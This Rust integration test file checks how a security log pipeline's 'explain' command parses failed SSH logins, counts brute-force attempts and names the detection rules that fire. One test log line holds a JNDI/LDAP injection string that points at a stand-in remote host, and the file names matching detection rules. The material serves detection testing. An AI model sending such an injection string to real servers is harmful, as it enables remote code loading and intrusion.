//! `soc explain`: what the pipeline makes of lines, run as a user runs it.

use std::io::Write;
use std::process::{Command, Stdio};

fn soc_explain(args: &[&str], stdin: Option<&str>) -> String {
    let dir = tempfile::tempdir().expect("tempdir");
    let mut child = Command::new(env!("CARGO_BIN_EXE_soc"))
        .arg("explain")
        .args(args)
        .current_dir(dir.path())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("soc runs");
    if let Some(text) = stdin {
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(text.as_bytes())
            .expect("write stdin");
    }
    drop(child.stdin.take());
    let out = child.wait_with_output().expect("soc exits");
    assert!(
        out.status.success(),
        "soc explain {args:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).expect("utf-8")
}

#[test]
fn a_failed_password_is_parsed_kept_and_counted_by_the_ssh_rules() {
    let out = soc_explain(
        &["Mar 10 09:00:03 web-1 sshd[5101]: Failed password for root from 203.0.113.9 port 4000 ssh2"],
        None,
    );
    assert!(out.contains("event.action=ssh_login"), "{out}");
    assert!(out.contains("source.ip=203.0.113.9"), "{out}");
    assert!(out.contains("filter:    kept"), "{out}");
    assert!(
        out.contains("selected:  soc/ssh-bruteforce counts it under source.ip=203.0.113.9"),
        "{out}"
    );
    assert!(out.contains("alerts: none from these lines"), "{out}");
}

#[test]
fn it_says_why_a_line_is_dropped_or_not_selected() {
    let out = soc_explain(
        &[
            "Mar 10 09:00:03 web-1 sshd[77]: pam_unix(sshd:session): session opened for user alice(uid=1000) by (uid=0)",
            "Mar 10 09:00:04 web-1 sshd[78]: Failed publickey for git from 203.0.113.10 port 4001 ssh2: RSA SHA256:abc",
            "this is not a log line anyone knows",
        ],
        None,
    );
    assert!(
        out.contains(
            "filter:    dropped: event.action is \"session_opened\", listed in the filter's `drop_actions`"
        ),
        "{out}"
    );
    // A rejected key: both selections match, and `not not_a_guess` excludes it.
    assert!(
        out.contains("not:       soc/ssh-bruteforce: `failure`, `not_a_guess` matched, and the condition `failure and not not_a_guess` excludes that"),
        "{out}"
    );
    // A rule whose selection fails names the field and what it wanted.
    assert!(
        out.contains("soc/ssh-refused-connection: `refused`: event.action is \"ssh_publickey_failed\", wants \"ssh_refused_connect\""),
        "{out}"
    );
    assert!(out.contains("no parser recognised the line"), "{out}");
}

#[test]
fn lines_from_standard_input_raise_the_alerts_they_raise_together() {
    // Five guesses in five connections, each logged twice by sshd: five attempts.
    let lines: String = (0..5)
        .flat_map(|i| {
            [
                format!("Dec 31 23:59:5{i} web-1 sshd[{}]: Invalid user u{i} from 198.51.100.20 port {}", 100 + i, 4000 + i),
                format!("Dec 31 23:59:5{i} web-1 sshd[{}]: Failed password for invalid user u{i} from 198.51.100.20 port {} ssh2", 100 + i, 4000 + i),
            ]
        })
        .map(|l| l + "\n")
        .collect();
    let out = soc_explain(&["--json", "--year", "2019"], Some(&lines));
    let records: Vec<serde_json::Value> = out
        .lines()
        .map(|l| serde_json::from_str(l).expect("one JSON object a line"))
        .collect();
    assert_eq!(records.len(), 11, "ten lines and the alerts");
    assert_eq!(
        records[0]["event"]["@timestamp"].as_str(),
        Some("2019-12-31T23:59:50.000Z"),
        "--year dates the year-less line"
    );
    let alerts = records[10]["alerts"].as_array().expect("alerts");
    let brute = alerts
        .iter()
        .find(|a| a["rule"] == "soc/ssh-bruteforce")
        .expect("the brute force is raised");
    assert_eq!(brute["key"], "source.ip=198.51.100.20");
    assert_eq!(brute["count"], 5, "attempts, not lines: {brute}");
}

#[test]
fn a_rule_covered_by_another_says_which_counts_the_line() {
    let out = soc_explain(
        &[
            r#"203.0.113.5 - - [10/Mar/2025:10:00:00 +0000] "GET /?x=${jndi:ldap://198.51.100.9/a} HTTP/1.1" 200 10 "-" "curl/8""#,
        ],
        None,
    );
    assert!(
        out.contains(
            "selected:  soc/http-exploit-jndi-injection counts it under source.ip=203.0.113.5"
        ),
        "{out}"
    );
    assert!(
        out.contains("selected:  sigma/web_jndi_lookup_in_request but does not count it: soc/http-exploit-jndi-injection detects the same and counts it"),
        "{out}"
    );
    // Together the lines raise one alert for the one attack.
    let jndi: Vec<&str> = out
        .lines()
        .skip_while(|l| !l.starts_with("alerts from these lines"))
        .filter(|l| l.contains("jndi"))
        .collect();
    assert_eq!(jndi.len(), 1, "{out}");
}
